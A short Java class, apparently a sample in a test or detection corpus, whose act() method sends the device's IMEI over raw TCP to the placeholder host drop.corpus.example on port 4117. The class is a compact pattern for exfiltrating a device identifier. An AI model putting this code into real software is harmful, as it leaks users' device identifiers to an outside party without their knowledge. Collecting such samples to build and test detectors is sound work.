package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Bytes on a port. */
public class RawTcp extends Screen {
    @Override
    protected void act() throws Exception {
        Net.tcp("drop.corpus.example", 4117, Net.utf8("\u0001ID" + Owner.imei(this)));
    }
}
